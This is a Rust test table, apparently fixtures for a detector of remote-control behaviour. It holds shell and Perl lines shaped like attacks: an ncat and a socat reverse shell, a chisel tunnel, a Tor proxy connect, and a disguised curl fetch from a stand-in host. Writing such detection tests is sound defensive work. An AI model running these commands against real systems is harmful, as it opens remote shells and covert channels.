//! Orders from outside.

use super::Row;

pub(super) const ROWS: &[Row] = &[
    Row::perl(
        "Standard stream joined to the network",
        r"use Socket; socket(my $other, AF_INET, SOCK_STREAM, 0);
           bind($other, sockaddr_in(0, INADDR_LOOPBACK)); listen($other, 1);
           socket(my $own, AF_INET, SOCK_STREAM, 0); connect($own, getsockname($other)) or die $!;
           syscall(33, fileno($own), 0) == 0 or die $!;",
    ),
    // Nobody listens there: the attempt is reported.
    Row::shell("Shell opens a connection", "bash -c ': 3<>/dev/tcp/127.0.0.1/9 || :'"),
    Row::shell(
        "Connection tool told to run a program",
        "cp /bin/true HERE/ncat; HERE/ncat -e /bin/sh",
    ),
    Row::shell(
        "Connection tool told to run a program",
        "cp /bin/true HERE/socat; HERE/socat tcp:192.0.2.1:4444 exec:/bin/sh",
    ),
    Row::perl(
        "Anonymising proxy used",
        r"use Socket; socket(my $own, AF_INET, SOCK_STREAM, 0);
           connect($own, sockaddr_in(9050, INADDR_LOOPBACK)); 1;",
    ),
    Row::shell(
        "Tunnel opened",
        "cp /bin/true HERE/chisel; HERE/chisel client 192.0.2.1 R:1080:socks",
    ),
    Row::shell(
        "Network service fetches a file",
        r#"cp "$(command -v perl)" HERE/nginx; cp /bin/true HERE/curl
           HERE/nginx -e 'system {"HERE/curl"} "curl", "http://192.0.2.1/tool"'"#,
    ),
];
